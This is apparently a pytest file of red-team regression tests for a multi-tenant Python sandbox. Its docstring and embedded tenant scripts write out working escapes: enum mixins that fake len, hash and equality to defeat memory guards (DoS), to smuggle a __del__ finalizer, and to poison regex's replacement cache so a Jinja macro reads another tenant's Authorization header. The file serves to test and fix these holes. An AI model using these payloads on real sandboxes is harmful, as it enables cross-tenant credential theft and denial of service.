"""Round 8: an independent attacker against main at 0b6361f (after round 7's fixes).

Each test asserts what a safe sandbox does and is a strict xfail while the
attack works on main (the repository's convention for attack rounds): an
XFAIL here is the attack succeeding; once a fix lands, the test XPASSes,
fails as strict, and its marker comes off.

Findings, by class:

1. *A class made by the enum functional API skips every class-statement
   rule* (the root of the round). ``enum.StrEnum("N", {...}, type=Mask)``
   (and ``IntEnum``, and a tenant's member-less ``class B(str, Enum)``
   called as ``B("N", {...}, type=Mask)``) makes ``class N(Mask, StrEnum)``:
   ``Mask``, a tenant class that is no value type and so may define
   ``__eq__``, ``__hash__``, ``__len__``, ``startswith``..., comes *before*
   ``str`` in the MRO of a class whose members are ``str`` instances.
   ``_factory_guard`` (``sandbox/facades/classes.py:170``) and
   ``GuardedEnumType.__call__`` (``:213``) only ask whether ``type=`` is a
   tenant class; ``refused_value_class`` (``sandbox/guards/own_objects.py``,
   round 7's fix for the same mixin in a class statement) is asked by
   ``ClassFactory`` (``sandbox/runtime.py:147``) and by nothing else, and
   ``_adopt`` (``classes.py:38``) makes the result a tenant class as if a
   class statement had. Round 6's and 7's value-type attacks come back:

   a. *Growth in one C call* (**DoS**): a member 8 MB long that says
      ``len() == 1`` is joined 25 times into 200 MB (answered 200, against
      a 32 MB budget: ``sandbox/guards/natives.py:110`` sums ``len(item)``),
      and is ``re.sub``'s replacement: ``_sized_repl``
      (``sandbox/facades/timed_re.py:155``) estimates with ``len(repl)`` and
      hands it to the C template (415 MB peak, the process held 0.42 s).
   b. *Tenant code outside any request*: a member that hashes and compares
      as ``"__del__"`` while its characters are ``"A"`` passes
      ``_check_member_names`` (``classes.py:154``) as a key of
      ``enum.Enum("E", {N.A: finalizer})``: the tenant's ``__del__`` runs at
      collection (round 7's test, through the functional road).

2. *Any special method bound to a host callable* (**cross-tenant**, full
   escape: one tenant reads another's ``Authorization`` header). The same
   key trick names any dunder: ``enum.Enum("Mask", {K.eq:
   staticmethod(macro), K.hash: f})`` where ``K.eq`` is a ``str`` whose
   characters are ``"eq"`` and which hashes and compares as ``"__eq__"``.
   ``refused_special_method`` (round 7: a special method must be the
   tenant's own function) is asked for class statements only
   (``sandbox/runtime.py:149``); the enum functional API takes any values.
   ``Mask`` is then the ``type=`` of a ``StrEnum``: its members are ``str``
   values whose ``__eq__`` is a Jinja ``Macro``.

   The road into another tenant's request is a process-wide cache the
   uncacher does not know: the ``regex`` package (what ``re`` is here)
   keeps every compiled replacement template in
   ``regex._main._replacement_cache``, keyed by ``(pattern.pattern,
   pattern.flags, template)`` *with the tenant's template object*
   (``timed_re._sized_repl`` passes ``repl`` as it is,
   ``sandbox/facades/timed_re.py:157`` and ``:162``;
   ``disable_shared_caches``, ``sandbox/facades/text.py:118``, does not
   touch it). The victim's ``re.sub(r"(\\w+)", r"[\\1]", text)`` looks up
   ``(r"(\\w+)", flags, r"[\\1]")``; the planted key hashes the same, the
   dict compares, and the planted member's ``__eq__`` runs in the victim's
   request. With a tenant function there, that is the attacker's code in
   the victim's request (test 2a: ``visible()`` still hides the request
   from it); with the Macro, no frame of the attacker is on the stack,
   ``context.visible()`` (``muxserver/tenant_api/context.py:72``) finds the
   victim's module frame nearest and answers the victim's context, and the
   macro appends the victim's ``Authorization`` to the attacker's list
   (test 2b, in process and over HTTP with the real command).
"""

import sys

import pytest

from tests.sandbox.inprocess import SandboxHost
from tests.sandbox.rounds import LIMITS
from tests.sandbox.rounds import assert_contained
from tests.sandbox.rounds import assert_no_finalizer_ran
from tests.sandbox.rounds import eavesdrop_in_process
from tests.sandbox.rounds import eavesdrop_over_http
from tests.sandbox.rounds import serve_in_fresh_process

ATTACK_WORKS = "round 8: the attack works on main 0b6361f"


# -- 1. the enum functional API's type= puts a tenant mixin before str ------------------

ENUM_MIXIN_IDENTITY = '''
import enum

class Mask:                      # no value type: may define these
    def __len__(self):
        return 1

    def __hash__(self):
        return hash("other")

    def __eq__(self, other):
        return True

E = enum.StrEnum("E", {"A": "abc"}, type=Mask)

def get():
    a = E.A
    return repr([isinstance(a, str), len(a), a == "zzz", hash(a) == hash("other")])
'''


def test_enum_type_mixin_cannot_give_str_members_an_identity(tmp_path):
    host = SandboxHost(tmp_path)
    host.write("r8-enum-mixin", {"index.py": ENUM_MIXIN_IDENTITY}, LIMITS)
    outcome = host.request("r8-enum-mixin")
    # On main: 200 "[True, 1, True, True]" (a str of 3 characters, len 1,
    # equal to anything, hashing as another text).
    assert outcome.status in ("deploy", 500), outcome


LYING_LENGTH = '''
import enum, re

class Short:
    def __len__(self):
        return 1

Big = enum.StrEnum("Big", {"X": "x" * (8 * 1024 * 1024)}, type=Short)
BIG = Big.X

def get():
    return str(len(EXPR))
'''


@pytest.mark.parametrize("expr", ['"".join([BIG] * 25)', 're.sub("", BIG, "a" * 24)'])
def test_enum_type_mixin_len_lies_to_size_guards(tmp_path, expr):
    # On main: the join answers 200 with "209715200" (peak ~215 MB); re.sub
    # peaks at ~415 MB and holds the process ~0.4 s — against 32 MB.
    assert_contained(serve_in_fresh_process(tmp_path, "r8-len", LYING_LENGTH.replace("EXPR", expr)))


ENUM_KEY_FINALIZER = '''
import enum

class Mask:
    def __hash__(self):
        return hash("__del__")

    def __eq__(self, other):
        return str(other) == "__del__" or "".join([self]) == str(other)

N = enum.StrEnum("N", {"A": "A"}, type=Mask)   # characters "A", identity "__del__"

def finalizer(self):
    raise ValueError("the tenant's __del__ ran at collection")

E = enum.Enum("E", {N.A: finalizer, "B": 1, "C": 2})

def get():
    return repr(list(E))
'''


def test_enum_functional_key_smuggles_del(tmp_path):
    assert_no_finalizer_ran(SandboxHost(tmp_path), "r8-enum-del", ENUM_KEY_FINALIZER)


# -- 2. regex's replacement cache, and a Macro as __eq__ by the enum key trick ----------

REGEX_VICTIM = '''
import re
def get():
    return "victim: " + re.sub(r"(\\w+)", r"<\\1>", "hello")
'''

#: Each test its own template: the cache is the process's, and a victim's
#: own entry from an earlier test would answer its lookup first.
REGEX_VICTIM_2 = REGEX_VICTIM.replace("<", "[").replace(">", "]")

REGEX_OWN_EQ = '''
import enum, re
seen = []

class Mask:
    def __hash__(self):
        return hash(r"<\\1>")          # the victim's template

    def __eq__(self, other):
        seen.append("compared in another tenant's lookup")
        return False

N = enum.StrEnum("N", {"A": "\\\\t"}, type=Mask)

def get():
    if seen:
        return "seen: " + repr(seen)
    re.sub(r"(\\w+)", N.A, "abc")     # keeps (pattern, flags, N.A) in regex's cache
    return "planted"
'''

REGEX_MACRO_EAVESDROPPER = '''
import enum, re
from flask import render_template_string

stolen = []
sink = []
TEMPLATE = ("{% macro m(o) %}{{ stolen.append(request.headers.get('Authorization')) or '' }}"
            "{% endmacro %}{{ sink.append(m) or '' }}")

class Alias:
    # A str whose characters are "eq" but which hashes and compares as "__eq__".
    def dunder(self):
        return "__" + "".join([self]) + "__"

    def __hash__(self):
        return hash(self.dunder())

    def __eq__(self, other):
        return other == self.dunder() or "".join([self]) == other

K = enum.StrEnum("K", {"eq": "eq", "hash": "hash"}, type=Alias)

def victim_hash(self):
    return hash(r"[\\1]")              # the victim's template

def get():
    if stolen:
        return "stolen: " + " | ".join(str(s) for s in stolen)
    render_template_string(TEMPLATE, sink=sink, stolen=stolen)
    # No class statement: refused_special_method is never asked. __eq__ is the Macro.
    Mask = enum.Enum("Mask", {K.eq: staticmethod(sink[0]), K.hash: victim_hash})
    N = enum.StrEnum("N", {"A": "\\\\t"}, type=Mask)
    sink.append(N)
    re.sub(r"(\\w+)", N.A, "abc")     # keeps (pattern, flags, N.A) in regex's cache
    return "planted"
'''


def test_regex_replacement_cache_does_not_run_one_tenants_eq_in_anothers_request(tmp_path):
    host = SandboxHost(tmp_path)
    host.write("r8-re-own", {"index.py": REGEX_OWN_EQ}, LIMITS)
    host.write("r8-re-victim", {"index.py": REGEX_VICTIM}, LIMITS)
    host.request("r8-re-own")
    assert host.request("r8-re-victim").body == "victim: <hello>"
    after = host.request("r8-re-own").body
    # On main: 'seen: ["compared in another tenant\'s lookup", ...]'.
    assert after in ("planted", ""), after


def test_regex_cache_and_enum_macro_read_another_tenants_request(tmp_path):
    _, victim, stolen = eavesdrop_in_process(tmp_path, "r8-re", REGEX_MACRO_EAVESDROPPER,
                                             REGEX_VICTIM_2)
    assert victim == "victim: [hello]"
    # On main: "stolen: Bearer victim-token | Bearer victim-token".
    assert "victim-token" not in stolen, stolen


def test_regex_cache_and_enum_macro_over_http(tmp_path):
    victim, stolen = eavesdrop_over_http(tmp_path, REGEX_MACRO_EAVESDROPPER, REGEX_VICTIM_2)
    assert victim == "victim: [hello]", victim
    assert "victim-token" not in stolen, stolen


if __name__ == "__main__":  # pragma: no cover
    sys.exit(pytest.main([__file__, "-q"]))
